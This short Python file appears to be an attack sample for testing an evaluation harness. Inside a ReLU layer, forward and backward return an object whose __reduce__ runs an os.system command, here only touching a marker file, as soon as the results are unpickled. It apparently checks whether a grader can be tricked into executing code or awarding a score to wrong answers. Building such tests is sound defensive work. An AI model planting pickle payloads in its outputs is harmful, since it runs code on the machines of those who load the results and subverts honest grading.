"""Results carry a __reduce__ that would run a command where they are unpickled.

cell: relu
outcome: its results are wrong answers
evidence: a score above that of the wrong answer alone
"""

# attack
import os


class Pickled:
    def __reduce__(self):
        return os.system, ("touch @BAIT@/hostile-was-here",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()


# end of attack


class ReLU(Activation):
    def forward(self, x):
        self.x = x
        # attack
        return Pickled()
        # end of attack
        return np.maximum(0, x)

    def backward(self, grad_output):
        # attack
        return Pickled()
        # end of attack
        return np.ones_like(grad_output)
